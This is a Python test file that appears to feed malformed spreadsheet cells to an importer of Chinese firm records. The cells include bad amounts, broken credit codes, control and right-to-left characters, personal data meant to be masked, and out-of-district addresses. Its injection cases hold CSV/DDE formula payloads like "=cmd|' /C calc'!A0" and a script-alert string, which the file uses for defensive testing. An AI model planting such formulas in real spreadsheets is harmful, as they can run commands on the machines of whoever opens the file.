"""One bad cell among good ones: amounts, identifiers, formulas, characters, personal data."""

from __future__ import annotations

from tests.hostile.making import HEADS, Case, code, firm, good, spoilt, with_cell, written

STAFF, SALES, FOUNDED, NAME, CODE = 3, 4, 2, 1, 0


def _amount(name: str, text: object, words: str = "") -> Case:
    return spoilt(f"amount {name}", SALES, text, words or "请")


def _read(name: str, column: int, text: object) -> Case:
    """Odd to look at, but right."""
    return Case(name, lambda path: written(path, with_cell(column, text)))


AMOUNTS = [
    _amount("NaN", "NaN", "程序算不出数"),
    _amount("Infinity", "Infinity", "程序算不出数"),
    _amount("-inf", "-inf", "程序算不出数"),
    _amount("1e400", "1e400", "科学计数法"),
    _amount("1,23,456", "1,23,456"),
    _amount("1,2345", "1,2345"),
    _amount("12万3", "12万3"),
    _amount("－5", "－5", "不能小于 0"),
    _amount("(5)", "(5)", "不能小于 0"),
    _amount("negative", -5, "不能小于 0"),
    _amount("percent", "12.5%", "百分比"),
    _amount("two points", "1.2.3"),
    _amount("0x1F", "0x1F"),
    _amount("too large", "9" * 40),
    _amount("finer than 分", "0.0000001", "小数"),
    _amount("words", "约三千"),
    _amount("about", "约3000", "不是确数"),
    _amount("待核实", "待核实", "请核实"),
    _amount("####", "####", "公式"),
    _read("full-width number", SALES, "１２３"),
    _read("thousands", SALES, "1,234,567.89"),
    _read("with its unit", SALES, "2.5亿"),
    _read("spaces and apostrophe", SALES, "' 3 000.5 ".replace(" 3 ", "3")),
    _read("a mask", SALES, "***"),
    _read("a dash", SALES, "——"),
    spoilt("half a person", STAFF, "41.123456", "小数"),
    spoilt("day 30 February", FOUNDED, "2019-02-30", "2019-05-06"),
    spoilt("29 February 2023", FOUNDED, "2023年2月29日", "2019-05-06"),
    spoilt("only a year", FOUNDED, "2019", "请补上日"),
    spoilt("US date", FOUNDED, "05/06/2019", "2019-05-06"),
]

GOOD, OLD = code(1), "620100200012345"
CODES = [
    spoilt("wrong check digit", CODE, GOOD[:-1] + ("0" if GOOD[-1] != "0" else "1"), "校验位不符"),
    spoilt("two digits swapped", CODE, GOOD[:3] + GOOD[4] + GOOD[3] + GOOD[5:], "校验位不符"),
    spoilt("9.16E+17", CODE, "9.16E+17", "后几位已丢失"),
    spoilt("O for 0", CODE, code(1).replace("0", "O", 1), "没有字母 O"),
    spoilt("15 digits", CODE, OLD, "旧的 15 位"),
    spoilt("17 digits", CODE, GOOD[:17], "17 位"),
    spoilt("a word", CODE, "办理中", "不是信用代码"),
    _read("lower case", CODE, GOOD.lower()),
    _read("full width", CODE, "".join(chr(ord(c) + 0xFEE0) for c in GOOD)),
    _read("apostrophe and spaces", CODE, "'" + GOOD[:8] + " " + GOOD[8:]),
    _read("zero-width in the code", CODE, GOOD[:5] + "\u200b" + GOOD[5:]),
    Case("one code, two names", lambda p: written(p, [
        *good(), firm(0, c1="完全不同的另一家股份公司", c3=99)]), valid=2, errors=2),
    Case("one name, two codes", lambda p: written(p, [
        *good(), firm(7, c1=firm(0)[1], c3=99)]), valid=2, errors=2),
    Case("the same row twice", lambda p: written(p, [*good(), firm(1)]), skipped=1,
         says=("与第 3 行完全重复", "同一户")),
    Case("the same firm twice, other figures", lambda p: written(p, [*good(), firm(1, c4=1)]),
         valid=2, errors=2, says=("两个都不用",)),
    Case("more tech staff than staff", lambda p: written(p, [
        [*HEADS, "2024年科技人员（人）"], *([*firm(n), 500 if n == 1 else 5] for n in range(3))]),
        valid=2, errors=1, says=("大于同行的职工总数",), row=3, column="G"),
]  # fmt: skip

FORMULAS = {
    "HYPERLINK": '=HYPERLINK("http://x.invalid/"&A1,"点这里")有限公司',
    "DDE": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "full width": "＝1+1",
    "apostrophe": "'=1+1",
}
INJECTION = [
    *(spoilt(f"formula as a name, {n}", NAME, text, "当公式运行") for n, text in FORMULAS.items()),
    Case("formula as an address", lambda p: written(p, [
        [*HEADS, "注册地址"],
        *([*firm(n), "=1+1|x" if n == 1 else "兰州市城关区-1层"] for n in range(3))]),
        valid=2, errors=1, row=3, column="G"),
]  # fmt: skip

CHARACTERS = [
    spoilt("right to left", NAME, "金城\u202e限有司公", "U+202E"),
    spoilt("control character", NAME, "金城\x07试验有限公司", "U+0007"),
    spoilt("escaped NUL", NAME, "金城_x0000_有限公司".replace("_x0000_", "\x01"), "U+0001"),
    spoilt("damaged characters", NAME, "金城\ufffd\ufffd有限公司", "损坏"),
    _read("zero-width in a name", NAME, "金城\u200b试验1号有限公司"),
    _read("line end in a name", NAME, "金城试验1号\n有限公司"),
    Case("emoji", lambda p: written(p, with_cell(NAME, "金城🚀试验有限公司")), says=("图形符号",)),
    _read("rare characters", NAME, "𠮷㐀有限公司"),
    _read("markup", NAME, "<script>alert(1)</script>&amp;有限公司"),
]

ID_CARD, MOBILE, ACCOUNT = "620102199001011234", "13993112345", "6222021234567890123"


def _personal() -> list[list[object]]:
    more = ["法定代表人身份证号", "手机号", "银行账号", "联系人", "备注"]
    own = [ID_CARD, MOBILE, ACCOUNT, "张三", f"联系{MOBILE}"]
    return [[*HEADS, *more], *([*firm(number), *own] for number in range(3))]


_NEVER = (ID_CARD, MOBILE, ACCOUNT, "张三")
PERSONAL = [
    Case("personal columns", lambda p: written(p, _personal()),
         says=("个人信息", "身份证", "银行账号"), never=_NEVER),
    Case("identity card as the code", lambda p: written(p, with_cell(CODE, ID_CARD)),
         valid=2, errors=1, says=("620*************34",), never=_NEVER, row=3, column="A"),
    Case("mobile as the head count", lambda p: written(p, with_cell(STAFF, f"电话{MOBILE}")),
         valid=2, errors=1, says=("139******45",), never=_NEVER, row=3, column="D"),
    Case("no heads, personal rows", lambda p: written(p, [_personal()[1]]),
         refused="找不到能用的表头", never=_NEVER),
    Case("nobody's row", lambda p: written(p, [
        *_personal(), ["", "", "", ID_CARD, MOBILE, ACCOUNT]]),
         errors=1, never=(*_NEVER, ID_CARD[:10], MOBILE[:6], ACCOUNT[:8])),
]  # fmt: skip


def _elsewhere(address: str, head: str = "注册地址", region: str = "620102") -> list[list[object]]:
    return [
        [*HEADS, head],
        *([*firm(n), address if n == 1 else "甘肃省兰州市城关区天水路1号"] for n in range(3)),
    ]


REGION = [
    Case("all in the district", lambda p: written(p, _elsewhere("兰州市城关区张掖路2号")),
         region="620102"),
    Case("a firm of another district", lambda p: written(p, _elsewhere("兰州市七里河区西津路3号")),
         region="620102", valid=2, errors=1, says=("七里河区，不在城关区",), row=3, column="G"),
    Case("an address that does not tell", lambda p: written(p, _elsewhere("兰州新区")),
         region="620102", valid=2, errors=1, says=("看不出区县",), row=3),
    Case("no address at all", lambda p: written(p, _elsewhere("")), region="620102",
         says=("登记机关",)),
    Case("the district in a column", lambda p: written(p, _elsewhere("七里河区", "所在区县")),
         region="620102", valid=2, errors=1, says=("不在城关区",), row=3, column="G"),
    Case("the whole city", lambda p: written(p, _elsewhere("兰州市七里河区西津路3号")),
         region="620100"),
]  # fmt: skip

CASES = [*AMOUNTS, *CODES, *INJECTION, *CHARACTERS, *PERSONAL, *REGION]
